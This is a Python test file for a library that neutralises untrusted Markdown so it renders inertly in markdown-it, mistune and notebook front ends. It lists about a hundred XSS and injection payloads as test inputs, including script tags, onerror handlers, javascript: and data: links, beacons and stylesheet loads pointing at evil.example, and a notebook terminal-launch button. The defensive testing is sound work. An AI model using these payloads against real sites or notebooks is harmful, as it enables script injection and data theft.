"""Neutralised Markdown: as meant in every front end, and able to do nothing in any of them."""

from __future__ import annotations

import re
from collections.abc import Callable
from html.parser import HTMLParser

import mistune
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath

from claude_magic.display.neutral import inline, neutral
from claude_magic.display.untrusted import Target, target, visible

ELEMENTS = {
    *("a", "abbr", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em", "hr", "input"),
    *("li", "mark", "h1", "h2", "h3", "h4", "h5", "h6", "ol", "p", "pre", "s", "section", "span"),
    *(
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ),
}
ATTRIBUTES = {"align", "checked", "class", "disabled", "id", "start", "title", "type", "target", "rel"}


class Harm(HTMLParser):
    """Collects what could run, load or lead somewhere else."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[object] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ELEMENTS or (tag == "input" and dict(attrs).get("type") != "checkbox"):
            self.found.append(tag)
        for name, value in attrs:
            if name == "href":
                if not re.match(r"(https?://|mailto:|#)", re.sub(r"[\0- ]", "", value or "").lower()):
                    self.found.append((name, value))
            elif name == "style":
                if not re.fullmatch(r"text-align: ?\w+;?", value or ""):
                    self.found.append((name, value))
            elif name not in ATTRIBUTES:
                self.found.append((name, value))

    def handle_comment(self, data: str) -> None:
        self.found.append(data)

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)

    def handle_pi(self, data: str) -> None:
        self.found.append(data)

    def unknown_decl(self, data: str) -> None:
        self.found.append(data)


def harm(html: str) -> list[object]:
    parser = Harm()
    parser.feed(html)
    parser.close()
    return parser.found


def _mistune(**options: object) -> Callable[[str], str]:
    parse = mistune.create_markdown(escape=False, **options)  # type: ignore[arg-type]
    return lambda text: str(parse(text))


PLUGINS = ["abbr", "def_list", "footnotes", "mark", "math", "spoiler", "strikethrough", "superscript"]
PLUGINS += ["table", "task_lists", "url"]
PARSERS: dict[str, Callable[[str], str]] = {
    "markdown-it": MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render,
    "mistune": _mistune(),
    "mistune with all": _mistune(plugins=PLUGINS),
    "nbconvert": lambda text: str(MarkdownWithMath(renderer=IPythonRenderer(escape=False)).render(text)),
}
FORMULA = re.compile(
    r"(?<!\\)(\$\$?)((?!\n\s*\n).)+?(?<!\\)\1|\\begin\{(\w+)\}((?!\n\s*\n).)*?\\end\{\3\}"
    r"|\\\\\(((?!\n\s*\n).)*?\\\\\)|\\\\\[((?!\n\s*\n).)*?\\\\\]",
    re.DOTALL,
)


def with_formulas_cut_out(parse: Callable[[str], str], text: str) -> str:
    """Parse as notebooks do: what looks like a formula is put back after parsing, quotes and all."""
    formulas: list[str] = []

    def cut(match: re.Match[str]) -> str:
        formulas.append(match.group().replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
        return f"@@{len(formulas) - 1}@@"

    html = parse(FORMULA.sub(cut, text))
    return re.sub(
        r"@@(\d{1,4})@@", lambda m: formulas[int(m[1])] if int(m[1]) < len(formulas) else m.group(), html
    )


def assert_harmless(source: str) -> None:
    written = neutral(source)
    for name, parse in PARSERS.items():
        assert harm(parse(written)) == [], name
    for name in ("markdown-it", "mistune with all"):
        assert harm(with_formulas_cut_out(PARSERS[name], written)) == [], f"{name}, formulas cut out"


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=attributes><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<a id=config name=config href=x>clobber</a>",
    "<button data-commandlinker-command='terminal:create-new'>run</button>",
    "<details ontoggle=alert(1) open>",
    "<!-- > <img src=x onerror=alert(1)> -->",
    "<?php <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE html>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<x-y onclick=alert(1)>",
    "</p><script>alert(1)</script>",
    "\\<img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "<https://e.example/\"onclick='alert(1)'>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)> <vbscript:x> <data:text/html,x>",
    "[a](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a]( java\nscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](jav\\ascript:alert(1))",
    "[a](%6aavascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example) [d](/api/contents)",
    '[a](http://e.example "onclick=alert(1)")',
    "[a](http://e.example '<img src=x onerror=alert(1)>')",
    '[a](http://e.example/"onclick=alert(1)//)',
    "[a [b](javascript:x)](javascript:y)",
    "[[a](http://e.example)](javascript:x)",
    "[a\\](javascript:x)",
    "![a](http://evil.example/?q=secret)",
    "![a][r]\n\n[r]: http://evil.example/x.png",
    "[![a](http://evil.example/x.png)](javascript:x)",
    "![<img src=x onerror=alert(1)>](x)",
    "!\\[a](http://e.example) \\![a](http://e.example)",
    "[r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]:\n  <javascript:alert(1)>",
    "> [r]: javascript:alert(1)\n\n[r][] and [x][r]",
    "[a\nb]: javascript:alert(1)\n\n[a b]",
    "[`r]: javascript:alert(1) `\n\n[`r]",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML",
    "`<img src=x onerror=alert(1)>",
    "`a\n\n` <img src=x onerror=alert(1)> `b`",
    "``a` <img src=x onerror=alert(1)>",
    "\\`<img src=x onerror=alert(1)>`",
    "`a\n<img src=x onerror=alert(1)>\n`",
    "```\n<img src=x onerror=alert(1)>",
    "~~~\n<img src=x onerror=alert(1)>\n```\n<script>\n",
    "``` `x`\n<img src=x onerror=alert(1)>\n```",
    '```html" onclick="alert(1)\n<b>\n```',
    "````\n```\n<script>alert(1)</script>\n````",
    "- a\n  ```\n  x\n\n```\n<script>alert(1)</script>\n```\n",
    "- a\n ```\n <script>alert(1)</script>\n ```\n",
    "- ```\n<script>alert(1)</script>\n  ```",
    "> ```\n<script>alert(1)</script>\n> ```",
    "\t```\n<script>alert(1)</script>\n\t```",
    "-\t```\n\t<script>alert(1)</script>\n\t```",
    "1. x\n   ~~~\n   $\n   ~~~\n\n```html\n<img src=x onerror=alert(1)>\n```",
    "    <img src=x onerror=alert(1)>",
    "- a\n\n      <img src=x onerror=alert(1)>",
    "| `a | <img src=x onerror=alert(1)>` |\n|-|-|\n| `x\\|<b>` | y |",
    "<pre>\n\n```\n<script>alert(1)</script>\n```",
    "$<img src=x onerror=alert(1)>$ $$<script>$$ \\(<b>\\)",
    "$a](javascript:x)$ [$",
    '[a](https://e.example/$"onclick=alert(1)$)',
    '[a](https://e.example/\\begin{a}"onclick=alert(1)\\end{a})',
    'https://e.example/$"onclick=alert(1)$',
    '<https://e.example/$"onclick=alert(1)$>',
    '<https://e.example/>$"onclick=alert(1)$',
    'www.e.example/$"onclick=alert(1)$',
    'https://e.example/`\\begin{a}` "onclick=alert(1) \\end{a}',
    'https://e.example/\\\\( "onclick=alert(1) \\\\)',
    "ftp://e.example xmpp:a@b.example",
    "[a\n\n```\n]: x\n<script>alert(1)</script>\n```",
    "> - [a\n>\n\n```\n]: x\n<script>alert(1)</script>\n```",
    '[a]: http://e.example\n"b\n\n```\n"\n<script>alert(1)</script>\n```',
    "*[a\n\n```\n]: x\n<script>alert(1)</script>\n```",
    "`$$`\n\n```\n$$ <script>alert(1)</script>\n```",
    "$$\na$$\n\n```\n$$\n<script>alert(1)</script>\n```",
    "> $$\n> a\n> $$\n\n```\n$$\n<script>alert(1)</script>\n```",
    "$\\begin{a}$\n\n```\n\\end{a}\n<script>alert(1)</script>\n```",
    "$a \\\\[b$\n\n```\n\\\\]\n<script>alert(1)</script>\n```",
    "a `\\begin{a}`\n\n```\n\\end{a}\n<script>alert(1)</script>\n```",
    "a\n```\n: <script>alert(1)</script>\n```",
    "<code><img src=x onerror=alert(1)></code>",
    '<code>&#60;</code><pre><code class="language-x" onclick=1>x</code></pre>',
]


@pytest.mark.parametrize("source", ATTACKS)
def test_an_attack_is_shown_and_does_nothing(source: str) -> None:
    assert_harmless(source)
    assert_harmless(f"> {source}\n\n- {source}\n\ntext {source} text")


@pytest.mark.parametrize("source", ATTACKS)
def test_an_attack_cut_anywhere_does_nothing(source: str) -> None:
    for cut in range(len(source)):
        written = neutral(source[:cut])
        assert harm(PARSERS["markdown-it"](written)) == []
        assert harm(with_formulas_cut_out(PARSERS["markdown-it"], written)) == []


FRAGMENTS = [
    *("`", "``", "```", "~~~", "$", "$$", "\\", "\\(", "\\)", "\\[", "\\]", "\\\\(", "\\\\)"),
    *("\\begin{a}", "\\end{a}", "{", "}", "[", "]", "(", ")", "![", "](", "]:", "<", ">", "|", "|-|-|"),
    *("#", "==", "---", "*", "_", "**", "~", "@@0@@", "@@1@@", "x", "word", "javascript:alert(1)"),
    *("<a", "<img", "<!--", "-->", "<?", "</code>", "<code>", "<pre>", "&lt;", "&#60;", "!", ":"),
    *("www.e.example", "\n", "\n\n", "\n\n", " ", "    ", "\t", "> ", "- ", "1. ", "\x00", "\u202e"),
    *("\r", "```\n", "\n```\n", "https://e.example/", "a@b.example", "[r]", "[r]: ", "$x$", "`a`"),
    *("(javascript:x)", '"onclick=alert(1) "', "ftp://e.example", "<script>alert(1)</script>"),
    *("<https://e.example/", "<img src=x onerror=alert(1)>", "[x](http://e.example)"),
    *("```html\n<script>alert(1)</script>\n```\n", "  ```\n  x\n  ```\n", "- ```\n  <b>\n  ```\n"),
    *("*[x]: <b>",),
]
SOUP = st.lists(st.sampled_from(FRAGMENTS), max_size=24).map("".join)


@settings(max_examples=400, deadline=None)
@given(SOUP)
def test_no_mixture_does_anything(source: str) -> None:
    assert_harmless(source)


@settings(max_examples=400, deadline=None)
@given(SOUP, SOUP, SOUP)
def test_no_text_makes_a_parser_open_a_fence(before: str, inside: str, after: str) -> None:
    assert_harmless(f"{before}\n\n~~~~~~\n{inside}\n<script>alert(1)</script>\n{inside}\n~~~~~~\n{after}")


@settings(max_examples=200, deadline=None)
@given(SOUP)
def test_outside_fences_nothing_depends_on_the_parser(source: str) -> None:
    text = re.sub(r"^(```+)[\w+#.-]*\n.*?^\1$", "", neutral(source), flags=re.MULTILINE | re.DOTALL)
    text = re.sub(
        r"</?code>|</?pre>|<code class=\"language-[\w+#.-]+\">|<span>(?=&#\d+;</span>)|(?<=;)</span>",
        "",
        text,
    )
    assert not re.search(r"<[A-Za-z/!?]", text)
    assert "![" not in text
    assert not re.search(r"\]\((?!https?://|mailto:)", text)


PLAIN = """\
# Heading *one*

Prose with **bold**, _emphasis_, ~~gone~~, `code`, `$HOME`, a < b > c & d, 50 %, a_b_c, 2 * 3.
It goes on: "quoted" and 'so', e.g. (this), at 10:30; x[0]: yes — é, 你好, 👩‍💻.

- a list
  1. nested
  2. again

  - [ ] open
  - [x] done

> a quote
> goes on

| a | b |
|:--|--:|
| 1 | `x` |

```python
print("<b>", "$x$", "[a](javascript:x)")
```

1. A step:

   ```sh
   make all
   ```

    indented code

***

Mail me@example.org or see https://example.org/a_b?c=d&e=f#g. The end, $x_1 + y^2$ and

$$
\\int_0^1 x\\,dx
$$
"""


def test_plain_markdown_passes_unchanged() -> None:
    assert neutral(PLAIN) == PLAIN


@pytest.mark.parametrize(
    ("source", "written"),
    [
        ("[a](https://www.example.org/x)", "[a](https://www.example.org/x) (example.org)"),
        ("[a](https://example.org) (example.org)", "[a](https://example.org) (example.org)"),
        ("[https://e.org/x](https://e.org/x)", "[https://e.org/x](https://e.org/x)"),
        ("[https://good.org](https://evil.org)", "[https://good.org](https://evil.org) (evil.org)"),
        ("[a](https://good.org@evil.org)", "[a](https://good.org@evil.org) (evil.org)"),
        ("[a](<http://e.org/b c> 'title')", "[a](http://e.org/b%20c) (e.org)"),
        ("[a](http://e.org/b_(c))", "[a](http://e.org/b_%28c%29) (e.org)"),
        ("[me](mailto:me@e.org)", "[me](mailto:me@e.org) (me@e.org)"),
        ("[a](README.md)", "[a]&#40;README.md)"),
        ("![a](http://e.org/i.png)", "[🖼 a](http://e.org/i.png) (e.org)"),
        ("![](http://e.org/i.png)", "[🖼](http://e.org/i.png) (e.org)"),
        ("[![a](http://e.org/i.png)](http://f.org)", "[🖼 a](http://f.org) (f.org)"),
        ("Oh![a](b)", "Oh&#33;[a]&#40;b)"),
        ("http://a.b/c, www.a.b. http://[::1]:8/", "http://a.b/c, www.a.b. http://[::1]:8/"),
        ("http://a.b…", "http&#58;//a.b…"),
        ("http://пример.рф www.é.org", "http&#58;//пример.рф www&#46;é.org"),
        ("<https://e.org/a> <me@e.org>", "https://e.org/a me@e.org"),
        ("[a][r]\n\n[r]: http://e.org 'T'", "[a](http://e.org) (e.org)\n\n"),
        ("a\n[r]: http://e.org", "a\n[r]&#58; http://e.org"),
        ("[r]: javascript:x", "[r]&#58; javascript:x"),
        ("a <b>c</b>", "a &lt;b>c&lt;/b>"),
        ("`<b>` `c`", "<code>&#60;b&#62;</code> `c`"),
        ("|`a\\|<b>`|\n|-|", "|<code>a&#124;&#60;b&#62;</code>|\n|-|"),
        ("$5 or 6", "\\$5 or 6"),
        ("$5 and $6", "<span>&#36;</span>5 and <span>&#36;</span>6"),
        ("\\$5, $HOME", "<span>&#36;</span>5, <span>&#36;</span>HOME"),
        ("&#36;x&dollar; &#x62;&amp;", "<span>&#36;</span>x<span>&#36;</span> <span>&#98;</span>&amp;"),
        ("the $n$th \\(x<y\\)", "the $n$th $x< y$"),
        ("\\[\nx^2\n\\]", "$$\nx^2\n$$"),
        ("So\n\\[\nx^2\n\\]\nholds", "So\n\n$$\nx^2\n$$\n\nholds"),
        ("\\[not a formula\\]", "\\[not a formula\\]"),
        ("$$a$$\\[b^2\\]", "$$a$$ $$b^2$$"),
        ("\\\\[a](http://e.org)", "<span>&#92;</span>[a](http://e.org) (e.org)"),
        ("$$\na<b\n$$", "$$\na< b\n$$"),
        ("> $$\n> a\n> $$", "> $$a$$"),
        ("a\n```py x=1\nb\n```\nc", "a\n\n```py\nb\n```\n\nc"),
        ("~~~\na\n```\n~~~", "````\na\n```\n````"),
        ("```\nopen", "```\nopen\n```"),
        ("   ```\n   a\n   ```\n", "```\na\n```\n"),
        ("- ```x\n  <b>\n  ```\n", '- <pre><code class="language-x">&#60;b&#62;</code></pre>\n'),
        ("    <b>\n", "```\n<b>\n```\n"),
        ("a `b", "a &#96;b"),
        ("a\r\nb\u202ec\x1b[1m", "a\nb⟨U+202E⟩c␛[1m"),
    ],
)  # fmt: skip
def test_what_is_rewritten(source: str, written: str) -> None:
    assert neutral(source) == written


@pytest.mark.parametrize("source", [PLAIN, *(source for source in ATTACKS if "\\(" not in source)])
def test_a_second_time_changes_nothing(source: str) -> None:
    assert neutral(neutral(source)) == neutral(source)


def test_inline_is_one_line_without_fences() -> None:
    assert inline("a\nb") == "a b"
    assert "\n" not in inline("- a\n\n```x\n$$\ny\n$$")


@pytest.mark.parametrize(
    "source",
    ["`", "``` ", "[", "]", "[a](", "![", "$", "$$a", "\\(", "\\[a\n", "\\begin{a}\n", "<", "<a ", "https://",
     "> ", "- ", "\n[a", "[![a](http://b)](http://c)", "[a](<", "|a|b|\n", "`<a\\|` ", "\x00", "  ",
     "*a **b ", "[r]: "],
)  # fmt: skip
def test_long_repetitions_come_to_an_end(source: str) -> None:
    many = source * (60_000 // len(source))
    assert "<a" not in neutral(many)
    assert len(neutral(many + "]" * 9_000)) < 20 * len(many) + 200_000


@pytest.mark.parametrize(
    ("destination", "expected"),
    [
        ("https://Example.ORG:8080/a", Target("https://example.org:8080/a", "example.org:8080")),
        ("HTTP://www.e.org", Target("http://www.e.org", "e.org")),
        ("https://пример.рф/ä", Target("https://xn--e1afmkfd.xn--p1ai/%C3%A4", "xn--e1afmkfd.xn--p1ai")),
        ("https://e.org/a?b=1&amp;c=2", Target("https://e.org/a?b=1&c=2", "e.org")),
        ("https://e.org/$x`\"'<>|{}", Target("https://e.org/%24x%60%22%27%3C%3E%7C%7B%7D", "e.org")),
        ("https://[::1]/", Target("https://[::1]/", "[::1]")),
        ("https://e.org/100%", Target("https://e.org/100%25", "e.org")),
        *((bad, None) for bad in ("", "x", "#a", "//e.org", "https://", "https:e.org", "https://%65.org")),
        *((bad, None) for bad in ("javascript:x", "http&colon;x", "mailto:", "mailto:x", "data:,x")),
        ("https://" + "a" * 9000, None),
    ],
)  # fmt: skip
def test_where_a_link_leads(destination: str, expected: Target | None) -> None:
    assert target(destination) == expected


def test_hidden_characters_are_made_visible() -> None:
    clean = "plain\ttext\nwith 👩‍💻 é 你好 \u200c"
    assert visible(clean) is clean
    assert visible("\0\x07\x1b]8;;\x7f\x9b") == "␀␇␛]8;;␡⟨U+009B⟩"
    assert visible("a\rb\r\nc\r") == "a␍b\nc␍"
    assert (
        visible("\u202e\u2066\u200b\ufeff\xad\U000e0041")
        == "⟨U+202E⟩⟨U+2066⟩⟨U+200B⟩⟨U+FEFF⟩⟨U+00AD⟩⟨U+E0041⟩"
    )
    assert visible("\ud83d\ude00 \ud83d \ude00") == "😀 \ufffd \ufffd"


@given(st.text(st.characters(codec=None)))
@example("\ud83d\ude00")
def test_visible_text_can_be_encoded_and_stays(text: str) -> None:
    shown = visible(text)
    shown.encode()
    assert visible(shown) == shown
